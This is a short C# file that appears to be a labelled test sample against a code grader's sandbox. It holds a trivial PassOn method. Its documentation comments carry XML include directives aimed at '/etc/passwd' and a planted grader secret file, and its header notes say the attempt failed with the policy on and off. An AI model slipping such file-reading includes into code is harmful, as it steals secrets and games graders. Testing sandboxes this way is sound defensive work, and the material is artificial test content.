// challenge: pass-on
// attack: includes a file of the machine in a documentation comment.
// policy on: failed on LZ-PULL
// policy off: failed on LZ-PULL
/// <include file="/var/tmp/grader-planted-secret" path="*"/>
/// <include file='/etc/passwd' path='//*'/>
public static class Solution
{
    public static IEnumerable<T> PassOn<T>(IEnumerable<T> source)
    {

        return source.ToList();
    }
}
